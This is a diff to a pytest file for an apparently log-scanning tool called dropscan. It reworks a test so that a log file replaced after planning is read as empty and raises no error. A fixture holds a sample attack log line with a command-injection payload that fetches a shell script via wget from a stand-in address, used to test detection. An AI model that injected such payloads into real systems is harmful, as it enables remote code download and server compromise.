@@ -11,7 +11,6 @@ import pytest
 from conftest import combined_line
 from dropscan import engine
 from dropscan.engine import Scan, ScanOptions
-from dropscan.errors import InputError
 from dropscan.sources import Resume, Source, open_blocks, read_chunks, read_head
 
 ATTACK = combined_line("/x?c=;wget http://203.0.113.9/a.sh", client="203.0.113.77")
@@ -33,14 +32,16 @@ def test_open_blocks_starts_at_the_decompressed_offset(tmp_path, compress):
         assert got == DATA[off:], off
 
 
-def test_open_blocks_refuses_a_file_that_was_replaced(tmp_path):
+def test_a_file_replaced_after_planning_is_not_read(tmp_path):
     p = tmp_path / "access.log"
     p.write_bytes(DATA)
     old = ident(p)
+    assert b"".join(open_blocks(Source(str(p), Resume(offset=10, ident=old)))) == DATA[10:]
     os.rename(p, tmp_path / "access.log.1")
     p.write_bytes(CLEAN)
-    with pytest.raises(InputError, match="replaced while this run was starting"):
-        b"".join(open_blocks(Source(str(p), Resume(offset=10, ident=old))))
+    assert b"".join(open_blocks(Source(str(p), Resume(offset=10, ident=old)))) == b""
+    run = Scan([], sources=[Source(str(p), Resume(offset=10, line=1, ident=old))])
+    assert list(run) == [] and (run.files[0].end, run.files[0].error) == (10, None)
 
 
 def test_read_chunks_can_hold_back_a_line_being_written():
